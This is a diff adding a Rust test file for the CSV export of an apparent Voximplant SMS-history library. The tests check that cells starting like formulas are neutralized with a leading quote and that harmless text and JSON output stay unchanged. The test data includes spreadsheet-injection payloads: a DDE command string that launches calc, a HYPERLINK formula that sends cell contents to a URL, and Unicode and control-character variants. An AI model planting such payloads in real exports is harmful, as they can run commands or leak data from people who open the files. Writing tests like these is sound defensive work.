@@ -1,0 +1,124 @@
+//! Texts that a spreadsheet would take for formulas.
+
+use proptest::prelude::*;
+use serde_json::{Value, json};
+use voximplant_sms_history::export::{Column, ExportOptions, Format};
+
+use super::{export, text};
+
+/// The columns whose content other people choose, and the API's fields for them.
+const TEXTS: [(Column, &str); 6] = [
+    (Column::SourceNumber, "source_number"),
+    (Column::DestinationNumber, "destination_number"),
+    (Column::RawDirection, "direction"),
+    (Column::StatusId, "status_id"),
+    (Column::ErrorMessage, "error_message"),
+    (Column::Text, "text"),
+];
+
+/// The one cell of a file with one column and one row.
+fn cell(column: Column, row: &Value, neutralize_formulas: bool) -> String {
+    let options = ExportOptions {
+        columns: vec![column],
+        neutralize_formulas,
+        ..ExportOptions::default()
+    };
+    let file = export(options, std::slice::from_ref(row));
+    let mut records = csv::Reader::from_reader(file.as_bytes()).into_records();
+    records.next().unwrap().unwrap()[0].to_owned()
+}
+
+#[test]
+fn every_kind_of_formula_in_every_text_column() {
+    for formula in [
+        "=1+1",
+        "=HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
+        "=cmd|' /C calc'!A0",
+        "=",
+        "+1+1",
+        "+",
+        "+1555 0100001",
+        "+15550100001,",
+        "++15550100001",
+        "+１２",
+        "-1+1",
+        "-15550100001",
+        "-",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\r\n=1+1",
+        "\0=1+1",
+        "＝1+1",
+        "＋1+1",
+        "－1+1",
+        "＠SUM(1,1)",
+        "=1+2\";=1+2",
+        "=1+2'\" ;,=1+2",
+    ] {
+        for (column, field) in TEXTS {
+            let row = json!({ field: formula });
+            assert_eq!(cell(column, &row, true), format!("'{formula}"));
+            assert_eq!(cell(column, &row, false), formula);
+        }
+    }
+}
+
+#[test]
+fn what_is_no_formula_stays_as_it_is() {
+    for harmless in [
+        "",
+        "+15550100001",
+        "+0",
+        "15550100001",
+        "Taxi24",
+        "1=1",
+        "a@example.com",
+        " =1+1",
+        "'=1+1",
+        "\"=1+1\"",
+        "привет =1",
+        "😀",
+    ] {
+        for (column, field) in TEXTS {
+            assert_eq!(cell(column, &json!({ field: harmless }), true), harmless);
+        }
+    }
+}
+
+#[test]
+fn own_numbers_and_dates_are_left_alone() {
+    let row = json!({ "cost": "-0.5", "message_id": 1, "processed_date": "2026-03-08 02:30:15" });
+    assert_eq!(cell(Column::Cost, &row, true), "-0.5");
+    assert_eq!(cell(Column::MessageId, &row, true), "1");
+    assert_eq!(
+        cell(Column::ProcessedDate, &row, true),
+        "2026-03-08T02:30:15Z"
+    );
+}
+
+#[test]
+fn json_is_no_spreadsheet() {
+    let options = ExportOptions {
+        format: Format::Ndjson,
+        ..ExportOptions::default()
+    };
+    let rows = [json!({ "text": "=1+1" })];
+    assert_eq!(export(options, &rows), "{\"text\":\"=1+1\"}\n");
+}
+
+proptest! {
+    #[test]
+    fn no_text_begins_like_a_formula(text in text(), (column, field) in prop::sample::select(&TEXTS)) {
+        // A word of the API's that is known is written in the library's own spelling.
+        prop_assume!(!["in", "out"].contains(&text.to_ascii_lowercase().as_str()));
+        let row = json!({ field: text });
+        let written = cell(column, &row, true);
+        let dangerous = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']);
+        let phone = written.strip_prefix('+').is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|byte| byte.is_ascii_digit()));
+        prop_assert!(phone || !dangerous(&written));
+        // Nothing else has changed.
+        prop_assert_eq!(written.strip_prefix('\'').filter(|rest| dangerous(rest) && dangerous(&text)).unwrap_or(&written), &text);
+    }
+}
